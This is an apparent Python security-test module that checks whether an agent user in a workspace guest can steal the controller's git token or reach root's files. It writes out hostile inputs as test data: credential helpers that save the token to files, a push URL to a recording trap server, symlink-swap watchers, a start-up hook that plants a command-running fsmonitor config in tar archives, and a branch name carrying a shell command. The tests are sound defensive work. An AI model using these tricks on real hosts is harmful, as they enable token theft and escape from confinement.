"""The guest-side security checks, on any provider: each plays the agent in a workspace's guest and asserts on what
the controller did with what it planted.

A check takes a ``GuestSide``: one workspace made by the create playbook on a debian guest tier (the try-out cluster
or the try-out cloud), where SSH logs in as root and the agent is the guest's own ``agent`` user. It runs commands in
the guest as root or as another user over SSH with the tier's key, archives the workspace as the archive module does
(``ArchiveFlow`` in process, on the workspace's record in the journal: its address, SSH settings, pinned host key and
layout, whatever the provider), and knows the repository it was cloned from (a bare repository served over HTTP with
a token). tests/integration/security/test_guest_side.py runs the checks on Proxmox VE and
test_agent_user_on_every_cloud.py on each cloud; docs/internals/security.md says what each one shows.
"""

import glob
import json
import os
import secrets
import shlex
import subprocess
import tarfile

import pytest

from ansible_collections.ephemera.workspaces.plugins.module_utils.core.journal import Journal
from ansible_collections.ephemera.workspaces.plugins.module_utils.flows.archive import ArchiveFlow
from ansible_collections.ephemera.workspaces.plugins.module_utils.guest.ssh import Guest, SshOutputTooLarge
from tests.integration.create.gitserver import GitHttpServer, git
from tests.localpve import ssh, ssh_run

CHECKOUT = '/workspace/repo'
# The agent's credential, in its environment: its value is a key no file of root's and no process list may show.
CREDENTIAL = 'EPHEMERA_PROBE_KEY'
HOSTILE_BRANCH = 'x;touch${IFS}pwned;#'
# What only root may write: the runner and its configuration, the helpers directory, root's own files, the system's.
ROOTS_FILES = ('/opt/ephemera/agent_runner.py', '/opt/ephemera/runner.json', '/var/lib/ephemera/helpers/planted',
               '/var/lib/ephemera/private/planted', '/var/lib/ephemera/planted', '/root/.ssh/authorized_keys',
               '/etc/passwd', '/etc/sudoers.d/agent')


class GuestSide:
    """One workspace of a debian guest tier, as the checks reach it.

    ``info`` is the tier's info (cluster.json or cloud.json: ``ssh_port``, ``ssh_user``, ``ssh_private_key``),
    ``journal_path`` the controller's journal that records workspace ``name``, ``bare`` the served bare repository it
    was cloned from and ``url`` that repository's URL (as the journal records it), ``git_user`` and ``token`` its
    login, ``archive_dir`` where its archives go; ``provider`` names the provider that made it.
    """

    def __init__(self, info, journal_path, name, bare, url, git_user, token, archive_dir, provider='proxmox'):
        self.info = info
        self.journal_path = journal_path
        self.name = name
        self.bare = bare
        self.url = url
        self.git_user = git_user
        self.token = token
        self.archive_dir = archive_dir
        self.provider = provider

    def record(self):
        with Journal.open(self.journal_path, create=False) as journal:
            return journal.get_workspace(self.name)

    def inside(self, command, user=None):
        """(exit status, stdout, stderr) of ``command`` run in the guest as root, or as ``user``."""
        if user is not None:
            command = 'runuser -u %s -- sh -c %s' % (user, shlex.quote(command))
        client = ssh(self.info, self.record()['address'], timeout=10)
        try:
            status, out, err = ssh_run(client, command)
        finally:
            client.close()
        return status, out.decode(errors='replace'), err.decode(errors='replace')

    def as_agent(self, command):
        """What ``command`` printed, run as the agent in its checkout; it must succeed."""
        status, out, err = self.inside('cd %s && %s' % (CHECKOUT, command), user='agent')
        assert status == 0, (command, out, err)
        return out

    def archive(self, mode='archive', **params):
        """An archive (or check) of the workspace, in process, as the archive module makes it."""
        args = dict(name=self.name, archive_dir=self.archive_dir, push=True, push_prefix='ephemera/',
                    include_untracked=[], ssh_timeout=10, git_username=self.git_user, command_timeout=120,
                    push_timeout=60)
        args.update(params)
        with Journal.open(self.journal_path, create=False) as journal:
            flow = ArchiveFlow(journal, args)
            return flow.check() if mode == 'check' else flow.archive()

    def holding(self, needle, where='/home /var/lib/ephemera /workspace /tmp /root /etc'):
        """Files in the guest (as root sees them) whose bytes contain ``needle``."""
        dummy, out, dummy = self.inside('grep -rlsF -- %s %s || true' % (shlex.quote(needle), where))
        return sorted(out.split())

    def guest(self, host_key=None):
        """The collection's Guest for the workspace, as root, pinned to ``host_key`` (default: the recorded key)."""
        ws = self.record()
        return Guest(ws['address'], port=self.info['ssh_port'], user='root', key_file=self.info['ssh_private_key'],
                     host_key=host_key or ws['facts']['host_key'])

    def restore(self, path, place):
        """Run the restore commands of the archive in ``path`` as docs/archive.md says, from a copy of its files in
        ``place``/archive, with the repository's login at hand (an askpass program); (metadata, the restored clone)."""
        with open(os.path.join(path, 'metadata.json')) as f:
            meta = json.load(f)
        os.makedirs(os.path.join(place, 'archive'))
        askpass = os.path.join(place, 'askpass')
        with open(askpass, 'w') as out:
            out.write('#!/bin/sh\ncase "$1" in Username*) echo %s ;; *) echo %s ;; esac\n'
                      % (self.git_user, self.token))
        os.chmod(askpass, 0o700)
        for name in os.listdir(path):
            with open(os.path.join(path, name), 'rb') as src, open(os.path.join(place, 'archive', name), 'wb') as dst:
                dst.write(src.read())
        proc = subprocess.run(['sh', '-ec', '\n'.join(meta['restore'])], cwd=os.path.join(place, 'archive'),
                              check=False, env=dict(os.environ, GIT_ASKPASS=askpass, GIT_TERMINAL_PROMPT='0'),
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=120)
        assert proc.returncode == 0, proc.stdout.decode()
        return meta, os.path.join(place, 'archive', 'restored')


# ------------------------------------------------------------------ the agent is a user of its own (second review, 4)

def check_the_agent_reaches_nothing_of_roots(inside, key, token, admin=None):
    """The agent's user in a guest (``inside(command, user=None)`` runs a command there as root or as ``user``): its
    own, unprivileged; its credentials, its runner's socket and its processes' environment are out of others'
    reach; it writes none of root's files. ``key`` is its credential, ``token`` the git token; ``admin`` a user the
    machine was made with for the controller's login, which must be another."""
    # SSH is root's; the agent's user is the bootstrap's, unprivileged: no uid 0, no admin group, no sudo rule.
    assert inside('id -u')[1].strip() == '0'
    status, out, dummy = inside('id -u agent; id -nG agent')
    uid, groups = out.split('\n', 1)
    assert status == 0 and int(uid) >= 1000, out
    assert not set(groups.split()) & {'root', 'sudo', 'wheel', 'adm', 'admin'}, groups
    assert inside('grep -rsw agent /etc/sudoers /etc/sudoers.d')[1] == ''
    if admin:
        assert inside('id -u %s' % admin)[0] == 0 and admin != 'agent'
    # The runner and the agent run as the agent user.
    status, out, dummy = inside('ps -eo user=,args= | grep -E "agent_runner|brief: " | grep -v grep')
    owners = set(line.split(None, 1)[0] for line in out.splitlines())
    assert status == 0 and owners == {'agent'}, out
    # Its credentials are its own (0600, the agent's) and no one else's; root's key is not its.
    assert inside('stat -c "%U %a" /var/lib/ephemera/agent.env')[1].split() == ['agent', '600']
    assert inside('cat /var/lib/ephemera/agent.env', user='agent')[1].count(key) == 1
    assert inside('cat /var/lib/ephemera/agent.env', user='nobody')[0] != 0
    assert inside('cat /root/.ssh/authorized_keys', user='agent')[0] != 0
    # The runner's socket answers the agent's user only.
    assert inside('stat -c "%U %a" /var/lib/ephemera/runner')[1].split() == ['agent', '700']
    probe = 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("/var/lib/ephemera/runner/runner.sock")'
    assert inside('python3 -c %s' % shlex.quote(probe), user='agent')[0] == 0
    status, dummy, err = inside('python3 -c %s' % shlex.quote(probe), user='nobody')
    assert status != 0 and 'Permission denied' in err, err
    # Another user's ps sees every command line (no hidepid here), and none carries the key or the token.
    status, out, dummy = inside('ps -eo args=', user='nobody')
    assert status == 0 and 'brief: ' in out, out
    assert key not in out and token not in out
    # The agent writes none of root's files, and cannot become root.
    for path in ROOTS_FILES:
        status, dummy, dummy = inside('echo planted >>%s' % shlex.quote(path), user='agent')
        assert status != 0, path
    assert inside('test -e /var/lib/ephemera/helpers/planted || test -e /etc/sudoers.d/agent')[0] != 0
    assert inside('su -c true root </dev/null', user='agent')[0] != 0
    # Nothing of the key or the token lies where root keeps its own files.
    status, out, dummy = inside('grep -rlsF -e %s -e %s /root /etc /opt /var/lib/ephemera /workspace || true'
                                % (shlex.quote(key), shlex.quote(token)))
    assert out.split() == ['/var/lib/ephemera/agent.env'], out


# ------------------------------------------------------------------ findings 1, 2 and 9: the push and its token

def check_the_archive_push_hands_the_token_to_nothing_the_agent_controls(side):
    """The agent plants a credential helper (the checkout's and its ~/.gitconfig), a push URL to a server that records
    logins, a link where root used to write its helper, and a process copying whatever appears in its scratch and in
    the helpers directory; the archive pushes, and the token is in no file of the guest, the recording server was
    never asked, the link's target was never made, and root's private directory is empty again."""
    trap = GitHttpServer(os.path.dirname(side.bare), 'trap', 'trap-' + secrets.token_hex(8))
    try:
        side.as_agent("git config credential.helper '!f() { cat >>/home/agent/stolen-repo; }; f'")
        side.as_agent("git config --global credential.helper '!f() { cat >>/home/agent/stolen-global; }; f'")
        side.as_agent('git config remote.origin.pushurl %s' % shlex.quote(trap.url_of(side.bare)))
        # Where root used to write its helper: a link to a root-only place, and a watcher that copies what it finds.
        side.as_agent('ln -sfn /root/planted-by-agent /var/lib/ephemera/tmp/archive-askpass')
        side.as_agent('echo "work of the agent" >notes.txt')
        side.inside('runuser -u agent -- setsid sh -c %s </dev/null >/dev/null 2>&1 &' % shlex.quote(
            'echo $$ >/home/agent/watcher.pid; while :; do '
            'for f in /var/lib/ephemera/tmp/* /var/lib/ephemera/helpers/*; do cat "$f" >>/home/agent/seen 2>/dev/null; '
            'done; sleep 0.01; done'))
        result = side.archive(git_token=side.token)
        assert trap.attempts == []  # the agent's push URL was never asked
        assert side.holding(side.token) == []
        assert side.inside('test -e /root/planted-by-agent')[0] != 0
        assert result['push']['ok'], result
        pushed = git('rev-parse', 'refs/heads/ephemera/' + side.name, cwd=side.bare)
        assert pushed == result['archive']['pushed_commit']
        assert git('show', pushed + ':notes.txt', cwd=side.bare) == 'work of the agent'
        dummy, out, dummy = side.inside('ls -A /var/lib/ephemera/private; stat -c "%U %a" /var/lib/ephemera/private')
        assert out.split() == ['root', '700'], out  # root's scratch space, empty again
    finally:
        side.inside('kill "$(cat /home/agent/watcher.pid)"; rm -f /home/agent/seen /home/agent/stolen-* '
                    '/home/agent/watcher.pid')
        side.as_agent('git config --unset credential.helper; git config --global --unset credential.helper; '
                      'git config --unset remote.origin.pushurl; rm -f /var/lib/ephemera/tmp/archive-askpass')
        trap.stop()


# What the agent runs while root captures its work: a process of its own that swaps whatever it can reach of the
# directories the capture uses (root's private directory and its archive.* directories, and the scratch directory it
# shares) for links to root's files, and logs what it could and could not reach.
WATCHER = r"""
import glob, os, sys, time
log = open('/home/agent/watch.log', 'a', buffering=1)
trap = '/home/agent/trap'
os.makedirs(trap, exist_ok=True)
for name in ('worktree.patch', 'untracked.tar', '.untracked', '.refs', '.rc', '.err'):
    if not os.path.lexists(os.path.join(trap, name)):
        os.symlink('/root/secret.txt', os.path.join(trap, name))
end = time.time() + 300
while time.time() < end:
    for top in ('/var/lib/ephemera/private', '/var/lib/ephemera/tmp'):
        try:
            found = [os.path.join(top, n) for n in os.listdir(top)]
        except OSError as err:
            log.write('denied %s %s\n' % (top, err.errno))
            found = []
        for path in found:
            if os.path.basename(path).startswith('archive.') and not os.path.islink(path):
                try:
                    os.rename(path, path + '.moved')
                    os.symlink(trap, path)
                    log.write('swapped %s\n' % path)
                except OSError as err:
                    log.write('refused %s %s\n' % (path, err.errno))
    time.sleep(0.002)
"""


def check_nothing_of_the_agents_reaches_or_writes_into_the_capture(side, tmp):
    """The agent's process swaps every capture directory it can reach for links to root's file, and its Python
    start-up code puts a ``.git/config`` whose fsmonitor runs a command into any tar its python makes; the archive holds
    the agent's work and nothing of root's file, the tar only the agent's file, the watcher was denied root's private
    directory, and the restore of that archive, run as documented on the controller (in ``tmp``), lands the agent's
    files and runs nothing at the restored clone's next ``git status``."""
    secret = 'root-only-' + secrets.token_hex(8)
    pwned = os.path.join(tmp, 'pwned-by-the-agent')
    side.inside('umask 077; echo %s >/root/secret.txt' % secret)
    # Python start-up code of the agent: it runs in every python3 the agent's user starts, and puts an entry into any
    # tar that python makes: a .git/config whose fsmonitor runs a command at the restored clone's next git status.
    site = side.as_agent('python3 -c "import site; print(site.getusersitepackages())"').strip()
    side.as_agent('mkdir -p %s && cat >%s/usercustomize.py' % (site, site) + " <<'EOF'\n" + '\n'.join([
        'import io, tarfile',
        '_add = tarfile.TarFile.add',
        'def add(self, name, *args, **kwargs):',
        '    _add(self, name, *args, **kwargs)',
        '    if not getattr(self, "planted", False):',
        '        self.planted = True',
        '        data = b"[core]\\n\\tfsmonitor = touch %s\\n"' % pwned,
        '        info = tarfile.TarInfo(".git/config")',
        '        info.size = len(data)',
        '        self.addfile(info, io.BytesIO(data))',
        'tarfile.TarFile.add = add',
    ]) + '\nEOF')
    side.as_agent('cat >/home/agent/watcher.py' + " <<'EOF'\n" + WATCHER + '\nEOF')
    side.as_agent('rm -f /home/agent/watch.log; setsid python3 /home/agent/watcher.py </dev/null >/dev/null 2>&1 & '
                  'echo $! >/home/agent/watcher.pid')
    try:
        side.as_agent('echo "more work" >>README && echo "a note" >note.md')
        result = side.archive(push=False, include_untracked=['*.md'])
        assert result['changed'] and sorted(result['archive']['files']) == [
            'metadata.json', 'restore-untracked.py', 'untracked.tar', 'worktree.patch'], result
        path = result['archive']['path']
        for name in result['archive']['files']:
            with open(os.path.join(path, name), 'rb') as f:
                assert secret.encode() not in f.read(), name
        with open(os.path.join(path, 'worktree.patch')) as f:
            assert '+more work' in f.read()
        # The tar holds the agent's file and nothing its start-up code added.
        with tarfile.open(os.path.join(path, 'untracked.tar')) as tar:
            assert tar.getnames() == ['note.md']
        # Root wrote nothing through the agent's links, and the agent reached none of the capture's directories.
        assert side.inside('cat /root/secret.txt')[1].strip() == secret
        status, log, dummy = side.inside('cat /home/agent/watch.log; kill -0 "$(cat /home/agent/watcher.pid)"')
        assert status == 0, 'the watcher was not running through the capture'
        assert 'denied /var/lib/ephemera/private 13' in log and 'swapped /var/lib/ephemera/private' not in log, log
        # The restore of this archive, as documented: the agent's files land, and the next git status runs nothing.
        dummy, restored = side.restore(path, os.path.join(tmp, 'restore'))
        with open(os.path.join(restored, 'note.md')) as f:
            assert f.read() == 'a note\n'
        with open(os.path.join(restored, 'README')) as f:
            assert f.read().endswith('more work\n')
        git('status', '--porcelain', cwd=restored)
        assert not os.path.exists(pwned)
        assert subprocess.run(['git', 'config', '--get', 'core.fsmonitor'], cwd=restored, check=False,
                              stdout=subprocess.PIPE).stdout == b''
    finally:
        side.inside('kill "$(cat /home/agent/watcher.pid)"; rm -rf /home/agent/watcher.* /home/agent/watch.log '
                    '/home/agent/trap')
        side.as_agent('rm -f %s/usercustomize.py; git checkout -q -- README; rm -f note.md' % site)
        side.inside('rm -f /root/secret.txt')


def check_fetch_takes_regular_files_only_within_their_cap(side, tmp):
    """A FIFO, a link to /dev/zero and a file over the cap are refused at once and nothing is written locally (in
    ``tmp``); a small regular file is fetched."""
    side.inside('mkdir -p /root/fetch && cd /root/fetch && rm -f * && mkfifo fifo && ln -s /dev/zero zero && '
                'head -c 5000 /dev/urandom >big && echo small >small')
    with side.guest().connect() as guest:
        refused = (('fifo', 'not a regular file'), ('zero', 'not a regular file'), ('big', 'holds 5000 bytes'))
        for name, words in refused:
            with open(os.path.join(tmp, name), 'wb') as out, pytest.raises(SshOutputTooLarge, match=words):
                guest.fetch('/root/fetch/' + name, out, max_bytes=4096, timeout=10)
            assert os.path.getsize(os.path.join(tmp, name)) == 0
        with open(os.path.join(tmp, 'small'), 'wb') as out:
            assert guest.fetch('/root/fetch/small', out, max_bytes=4096) == 6


# ------------------------------------------------------------------ finding 3: branch names, URLs, inspection

def check_a_hostile_branch_and_remote_url_neither_forge_the_verdict_nor_reach_a_shell(side, tmp):
    """The agent commits on a branch named like a shell command and sets a remote URL whose lines would forge a clean
    inspection: the verdict stays ``unsaved``, and the archive's restore commands, run as documented (in ``tmp``),
    restore that branch and its commit and run nothing. Leaves the checkout on that branch."""
    side.as_agent('git checkout -q -b %s' % shlex.quote(HOSTILE_BRANCH))
    side.as_agent('echo "on the hostile branch" >hostile.txt && git add hostile.txt && '
                  'git -c user.name=a -c user.email=a@example.invalid commit -q -m "hostile work"')
    head = side.as_agent('git rev-parse HEAD').strip()
    head_tree = side.as_agent('git rev-parse "HEAD^{tree}"').strip()
    forged = '\n'.join(['file:///nowhere', 'unpushed_count 0', 'index_tree ' + head_tree,
                        'tracked_tree ' + head_tree, 'tree ' + head_tree, 'untracked_count 0'])
    side.as_agent('git config remote.origin.url %s' % shlex.quote(forged))
    check = side.archive(mode='check')
    assert check['verdict'] == 'unsaved' and check['state']['unpushed_commits'] == 1, check
    result = side.archive(push=False)
    meta, restored = side.restore(result['archive']['path'], os.path.join(tmp, 'restore'))
    assert meta['checkout']['branch'] == HOSTILE_BRANCH
    assert meta['restore'][0] == 'git clone -- %s restored' % side.url
    assert glob.glob(os.path.join(tmp, 'restore', '**', 'pwned'), recursive=True) == []
    assert git('symbolic-ref', '--short', 'HEAD', cwd=restored) == HOSTILE_BRANCH
    assert git('rev-parse', 'HEAD', cwd=restored) == head


# ------------------------------------------------------------------ finding 11: floods of output

def check_a_flood_of_output_is_cut_off(side):
    """40 MB of output is cut off and the connection stays usable; a checkout with 300,000 branches makes the check
    ``unknown``, saying why, and a check after they are gone reads the checkout again."""
    with side.guest().connect() as guest:
        with pytest.raises(SshOutputTooLarge, match='printed more than'):
            guest.run('head -c 40000000 /dev/zero', timeout=60)
        assert guest.run('echo still usable').stdout == 'still usable\n'
    # A repository with 300,000 branches: its inspection is larger than the controller reads.
    side.as_agent('cp .git/packed-refs /home/agent/packed-refs.keep 2>/dev/null || : >/home/agent/packed-refs.keep')
    head = side.as_agent('git rev-parse HEAD').strip()
    side.as_agent('python3 -c %s' % shlex.quote(
        # Without the "sorted" header git sorts the file itself.
        'lines = [l for l in open(".git/packed-refs") if not l.startswith("#")]\n'
        'lines += ["%s refs/heads/flood/%06d\\n" % ("' + head + '", i) for i in range(300000)]\n'
        'open(".git/packed-refs", "w").write("".join(lines))'))
    try:
        check = side.archive(mode='check')
        assert check['verdict'] == 'unknown' and 'printed more than' in check['msg'], check
    finally:
        side.as_agent('cp /home/agent/packed-refs.keep .git/packed-refs')
    assert side.archive(mode='check')['verdict'] in ('saved', 'unsaved')
